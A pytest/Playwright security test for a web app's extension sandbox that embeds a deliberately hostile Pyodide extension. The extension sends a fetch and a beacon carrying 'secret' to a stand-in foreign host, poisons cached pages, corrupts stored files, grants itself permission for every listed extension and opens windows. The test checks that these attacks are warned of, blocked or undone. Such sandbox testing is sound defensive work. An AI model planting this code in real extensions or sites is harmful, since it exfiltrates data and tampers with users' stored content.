"""A hostile extension does its worst: each attack is prevented, or was told in the question."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path

import pytest
from playwright.sync_api import Page, expect

from tests.wheels import make_wheel
from web.build import listing

from .conftest import READY, Watched
from .extension_site import BOX, allow, open_box, record, relist, shelf
from .offline_site import wait_until_kept
from .site import Site
from .table import Table
from .test_security import foreign

__all__ = ["foreign"]
pytestmark = pytest.mark.soak
CODE = """
import asyncio, json
import js
from js import Object, Response, URL, Blob, caches, document, fetch, localStorage, navigator
from pyodide.code import run_js
from pyodide.ffi import to_js

HOSTILE = "<!doctype html><html data-ready=1 data-taken><title>taken</title>"
root, done = document.documentElement, []
root.setAttribute("data-ran", "")


async def a_fetch():
    await fetch(FOREIGN + "fetch")

async def a_beacon():
    assert navigator.sendBeacon(FOREIGN + "beacon", "secret")

async def code_in_words():
    run_js("document.title")

async def a_worker_of_its_own():
    blob = Blob.new(to_js(["0"]), js.JSON.parse('{"type": "text/javascript"}'))
    await navigator.serviceWorker.register(URL.createObjectURL(blob))

async def pages_in_the_store():
    for name in [n for n in await caches.keys() if n.startswith("mythshelf ")]:
        cache = await caches.open(name)
        for key in await cache.keys():
            await cache.put(key, Response.new(HOSTILE, await cache.match(key)))

async def another_heap():
    root = await navigator.storage.getDirectory()
    async for folder in (await root.getDirectoryHandle("mythshelf")).values():
        async for file in folder.values():
            content = bytearray((await (await file.getFile()).arrayBuffer()).to_bytes())
            content[len(content) // 2] ^= 1
            stream = await file.createWritable()
            await stream.write(to_js(bytes(content)))
            await stream.close()

async def permission_for_all():
    (key,) = (k for k in Object.keys(localStorage) if k.endswith("extensions"))
    kept = json.loads(localStorage.getItem(key))
    kept["allowed"] = [one["sha256"] for one in kept["listed"]]
    localStorage.setItem(key, json.dumps(kept))

async def a_window():
    js.window.open(FOREIGN + "window")

async def attack():
    for one in (a_fetch, a_beacon, code_in_words, a_worker_of_its_own, pages_in_the_store,
                another_heap, permission_for_all, a_window):
        try:
            await one()
            done.append(one.__name__)
        except BaseException:
            done.append(one.__name__ + " prevented")
    root.setAttribute("data-attacked", ", ".join(done))

attacking = asyncio.ensure_future(attack())
raise RuntimeError("and does not even install")
"""
PREVENTED = {"a_fetch", "code_in_words", "a_worker_of_its_own"}
"""And the beacon, of which a page is not told whether it has left: the other host knows."""
TOLD = ("change what this page shows", "send what it finds to other computers", "open other pages")


def is_itself(page: Page) -> bool:
    """Whether the page is the site's own, and nothing of the extension has run in it."""
    return page.locator("html:is([data-taken], [data-ran], [data-attacked])").count() == 0


def test_it_does_its_worst(
    foreign: tuple[str, list[str]],
    serve: Callable[..., Site],
    tmp_path: Path,
    visit: Callable[..., Watched],
) -> None:
    address, asked = foreign
    site = serve()
    (site.folder / "extensions.json").write_text("[]")
    wheel = make_wheel(
        tmp_path,
        "x_evil",
        {"x_evil.py": f"FOREIGN = {address!r}\n{CODE}"},
        games={"evil": "x_evil:GAME"},
        presenters={"evil": "x_evil:SEEN"},
    )
    listing.add(site.folder, wheel, title="Evil")
    device = visit(site)
    page = shelf(device)
    wait_until_kept(page)

    # Before the question nothing of it is here; what it will do is in the question.
    open_box(page, "evil")
    words = page.locator("#allow").inner_text()
    assert all(told in words for told in TOLD)
    assert is_itself(page)
    assert not [url for url in device.requests if ".whl" in url]

    # It is allowed, and does what the policy does not stop.
    allow(page)
    page.wait_for_selector("html[data-attacked]", state="attached")
    done = str(page.locator("html").get_attribute("data-attacked")).split(", ")
    assert {f"{name} prevented" for name in PREVENTED} <= {*done}
    assert {"/fetch", "/beacon"} & {*asked} == set()
    expect(page.locator('.toast[data-kind="warn"]')).to_contain_text("and does not even install")

    # At the next start nothing of it is left, though it is still listed and allowed.
    page.reload()
    page.wait_for_selector(READY, state="attached")
    assert is_itself(page)
    expect(page.locator('meta[http-equiv="Content-Security-Policy"]')).to_have_count(1)
    assert page.locator("html").get_attribute("data-memory") != "used"
    wait_until_kept(page)
    Table(page).begin()

    # Withdrawn, it does not run, whatever it has written.
    relist(site, [])
    page.goto(site.url)
    page.wait_for_selector(READY, state="attached")
    expect(page.locator(BOX.format("evil"))).to_have_count(0)
    assert record(page)["allowed"] == []
    assert is_itself(page)
    device.complaints.clear()
